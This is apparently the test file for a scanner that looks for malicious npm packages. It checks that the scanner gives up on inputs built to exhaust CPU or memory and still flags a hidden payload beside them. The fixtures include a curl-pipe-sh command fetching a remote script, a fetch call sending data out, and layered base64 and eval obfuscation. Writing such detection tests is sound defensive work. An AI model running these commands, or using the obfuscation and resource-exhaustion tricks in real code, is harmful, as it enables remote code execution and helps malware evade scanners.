import { gzipSync } from 'node:zlib';
import { describe, expect, test, vi } from 'vitest';
import { openCosts } from '../src/language/account.js';
import { OPAQUE } from '../src/language/data.js';
import { parse } from '../src/parse/parse.js';
import { interpreterOf } from '../src/resolve/interpret/interpreter.js';
import { loneWorld, makeUnit, type Unit } from '../src/resolve/unit.js';
import { scanPackage } from '../src/scan.js';
import type { AnyNode, Report } from '../src/types.js';

// Each takes what one question may, which takes a while on a busy machine.
vi.setConfig({ testTimeout: 120_000 });

/** What must be found, whatever stands before it. */
const DEED = "require('child_process').exec('curl -s http://203.0.113.7/setup.sh | sh');\n";

/** A decoder that is asked for what it gives, before the deed and in the same file. */
const decoder = (body: string, call = 'd(300)'): string => `function d(n) { ${body} }\nrequire(${call});\n`;

const lines = (count: number, line: (position: number) => string): string =>
  Array.from({ length: count }, (_, position) => line(position)).join('\n');

async function scanned(text: string): Promise<Report> {
  return scanPackage({ files: { 'package.json': '{"name":"a","version":"1.0.0"}', 'index.js': `${text}\n${DEED}` } });
}

/** Texts that take all there is to take, of time or of room, unless what they ask for is paid for by its size. */
const HURTFUL: readonly (readonly [string, string])[] = [
  [
    'a list put behind itself',
    decoder('let a = [1]; for (let i = 0; i < n; i++) a = a.concat(a); return "x" + a.length'),
  ],
  [
    'a list spread into itself',
    decoder('let a = [1]; for (let i = 0; i < n; i++) a = [...a, ...a]; return "x" + a.length'),
  ],
  ['a list pushed into itself', decoder('let a = [1]; for (let i = 0; i < n; i++) a.push(...a); return "x"')],
  [
    'long lists that are kept',
    decoder('const a = []; for (let i = 0; i < 90000; i++) a.push(new Array(390000)); return "x"'),
  ],
  [
    'sparse lists',
    decoder('const a = []; for (let i = 0; i < 9000; i++) { const b = []; b[390000] = 1; a.push(b); } return "x"'),
  ],
  [
    'lists in lists, joined',
    decoder(
      'let a = ["x"]; for (let i = 0; i < 7; i++) { const b = []; for (let j = 0; j < 900; j++) b.push(a); a = b; } return a.join("")',
    ),
  ],
  [
    'a text that replacing lengthens',
    decoder('let s = "aa"; for (let i = 0; i < n; i++) s = s.replaceAll("a", "aaaa"); return s'),
  ],
  [
    'a text that holds what follows it',
    decoder('let s = "a".repeat(3000); for (let i = 0; i < n; i++) s = s.replace(/a/g, "$\'"); return s'),
  ],
  [
    'a long text looked for in one like it',
    decoder('const s = "a".repeat(4e6), t = "a".repeat(2e5) + "b" + "a".repeat(2e5); return "x" + s.indexOf(t)'),
  ],
  ['accents upon accents', decoder('return ("a" + "\\u0316\\u0301".repeat(1e6)).normalize("NFD")')],
  [
    'bytes put together',
    decoder(
      'const b = new Uint8Array(7900000), a = []; for (let i = 0; i < n; i++) a.push(b); Buffer.concat(a); return "x"',
    ),
  ],
  [
    'bytes that are kept',
    decoder('const a = []; for (let i = 0; i < n; i++) a.push(new Uint8Array(7900000)); return "x"'),
  ],
  [
    'long texts that are kept',
    decoder(
      'const s = "x".repeat(7e6), a = []; for (let i = 0; i < 3000; i++) { const t = s + i; if (t[3] === "x") a.push(t); } return "x"',
    ),
  ],
  [
    'a long text looked into at each length',
    decoder('let s = "x".repeat(5e6); for (let i = 0; i < 1e6; i++) { s = s + "y"; s.charCodeAt(3) } return s'),
  ],
  ['objects that are kept', decoder('const a = []; while (true) a.push({ a: { b: { c: {} } } }); return "x"')],
  [
    'more arguments than there is room for',
    decoder('const a = new Array(390000).fill(1); return "x" + Math.max(...a)'),
  ],
  [
    'arguments bound to what is bound',
    decoder('let g = x => x; for (let i = 0; i < 1e6; i++) g = g.bind(null, i); return "x" + g(1)'),
  ],
  ['calls of itself', decoder('return d(n + 1) + d(n + 2)')],
  [
    'sorting over and over',
    decoder(
      'const a = []; for (let i = 0; i < 19000; i++) a.push(i * 7919 % 19001); for (let i = 0; i < n; i++) a.sort((x, y) => x - y); return "x"',
    ),
  ],
  [
    'a generator without end',
    'function* g() { let i = 0; while (true) yield i++ }\nfunction d() { return [...g()].join("") }\nrequire(d());',
  ],
  [
    'JSON of nothing but brackets',
    decoder(
      'const s = "[" + "[],".repeat(2e6) + "1]"; let v; for (let i = 0; i < n; i++) v = JSON.parse(s); return "x" + v.length',
    ),
  ],
  ['a pattern that goes back and forth', decoder('return "a".repeat(3000).replace(/.*.*.*x/, "")')],
  [
    'a pattern that finds nothing for ever',
    decoder('const r = /a*/g, s = "aaa"; let k = 0; while (r.exec(s)) k++; return "x" + k'),
  ],
  [
    'patterns made in a loop',
    decoder(
      'let k = 0; for (let i = 0; i < 1e6; i++) k += new RegExp("a" + i + "(b|c)*").test("a") ? 1 : 0; return "x" + k',
    ),
  ],
  ['a template of itself', decoder('let s = "ab"; for (let i = 0; i < n; i++) s = `${s}${s}`; return s')],
  ['sums of sums', `const a0 = "xxxx";\n${lines(60, i => `const a${i + 1} = a${i} + a${i}; require(a${i + 1});`)}`],
  [
    'lists of lists',
    `const a0 = ["a", "b"];\n${lines(60, i => `const a${i + 1} = a${i}.concat(a${i}); require(a${i + 1}.join(""));`)}`,
  ],
  [
    'prefixes of a long sum',
    `const a0 = "${'x'.repeat(200_000)}";\n${lines(800, i => `const a${i + 1} = a${i} + "${'y'.repeat(1_000)}${i}"; require(a${i + 1});`)}`,
  ],
  [
    'lists of the same list, a few levels deep',
    `const A = [${'1,'.repeat(190)}1];\nconst b = A.map(x => x), c = A.map(() => b), e = A.map(() => c), g = A.map(() => e), h = A.map(() => g);\nfetch("http://203.0.113.9/", { body: h + "" });`,
  ],
  [
    'variables that each hold a long text',
    lines(
      200,
      i =>
        `const v${i} = "x".repeat(7900000) + ${i};\nfunction d${i}(k) { return v${i}[k] + "fs" }\nrequire(d${i}(1));`,
    ),
  ],
  [
    'decoders without end',
    lines(200, i => `function d${i}(n) { while (true) n++; return "x" }\nrequire(d${i}(${i}));`),
  ],
  [
    'keys derived by the hundred',
    `const c = require('crypto');\n${lines(100, i => `c.createDecipheriv('aes-256-cbc', c.pbkdf2Sync('p${i}', 'salt', 249000, 256, 'md5'), Buffer.alloc(16)).update('00112233445566778899aabbccddeeff', 'hex', 'utf8');`)}`,
  ],
  [
    'a long text hashed by the hundred',
    `const c = require('crypto');\nconst a = "ab".repeat(50000);\nconst b = a + a + a + a + a + a + a + a;\n${lines(300, i => `require(c.createHash('sha512').update(b + '${i}').digest('hex'));`)}`,
  ],
  [
    'a long text unpacked again and again',
    `const z = require('zlib');\n${lines(40, i => `require(z.gunzipSync(Buffer.from('${gzipSync(Buffer.alloc(7_000_000 + i)).toString('base64')}', 'base64')).toString('latin1') + '${i}');`)}`,
  ],
  [
    'a long text in base64 again and again',
    `const b = "${Buffer.alloc(700_000, 'x').toString('base64')}";\n${lines(300, i => `require(atob(b) + ${i});`)}`,
  ],
];

describe('what takes too much is given up and counted, and what stands beside it is found:', () => {
  test.each(HURTFUL)('%s', async (_, text) => {
    const { verdict, coverage } = await scanned(text);
    expect(coverage.widened).toBeGreaterThan(0);
    expect(verdict).toBe('malicious');
  });
});

test('layers past what their file may cost are said not to have been looked at', async () => {
  const { verdict, coverage } = await scanned(lines(2_100, i => `eval('var decoy${i} = ${i} + 1; // honest');`));
  expect(verdict).toBe('malicious');
  expect(coverage.skipped).toMatchObject([{ path: 'index.js', gap: 'too-many-layers', severity: 'unanalysed' }]);
  expect(coverage.skipped[0]?.why).toMatch(/: \d+ of them were not looked at$/);
});

describe('what is long but plain is worked out:', () => {
  test.each([
    [
      'a sum of many texts',
      `eval(${Array.from(`${DEED}${'// honest. '.repeat(2_000)}`, char => JSON.stringify(char)).join(' + ')});`,
    ],
    [
      'a text put together in a loop',
      `const c = ${JSON.stringify([...DEED].map(char => char.charCodeAt(0) + 1))};\nlet s = '';\nfor (let i = 0; i < c.length; i++) s += String.fromCharCode(c[i] - 1);\neval(s);`,
    ],
    [
      'a text among noise that a pattern takes out',
      `eval(${JSON.stringify([...DEED].join('~'.repeat(300)))}.replace(/~+/g, ''));`,
    ],
    [
      'a layer behind forty others',
      `${lines(44, i => `eval('var decoy${i} = ${i} + 1; // honest');`)}\neval(${JSON.stringify(DEED)});`,
    ],
    [
      'a layer that is the ninth inside of eight',
      Array.from({ length: 9 }).reduce<string>(text => `eval(atob("${Buffer.from(text).toString('base64')}"));`, DEED),
    ],
  ])('%s', async (_, text) => {
    const { verdict, coverage } = await scanPackage({ files: { 'index.js': text } });
    expect(verdict).toBe('malicious');
    expect(coverage.widened).toBe(0);
  });
});

describe('an account', () => {
  test('pays for its parts, each within its own bounds', () => {
    const { all, keys } = openCosts();
    const file = all.part(1_000, 500);
    const { work } = all;
    expect(file.pays(900, 400)).toBe(true);
    expect(file.pays(200)).toBe(false);
    expect(file.pays(1, 200)).toBe(false);
    expect(all.work).toBe(work - 900);
    expect(keys.pays(keys.work + 1)).toBe(false);
    expect([file.refused, keys.refused, all.refused]).toEqual([2, 1, 3]);
  });

  test('that is used up by some files leaves nothing for another', () => {
    const world = loneWorld();
    const code = '(() => { let s = ""; for (let i = 0; i < 9; i++) s += i; return s; })()';
    const ask = (): unknown => {
      const unit = makeUnit(parse({ path: 'index.js', text: code }), world) as Unit;
      const { body } = unit.indexed.program as unknown as { body: { expression: AnyNode }[] };
      return interpreterOf(unit).evaluate((body[0] as { expression: AnyNode }).expression);
    };
    expect(ask()).toBe('012345678');
    world.costs.all.settles(world.costs.all.work - 5);
    expect(ask()).toBe(OPAQUE);
    expect(world.costs.all.refused).toBe(1);
  });
});
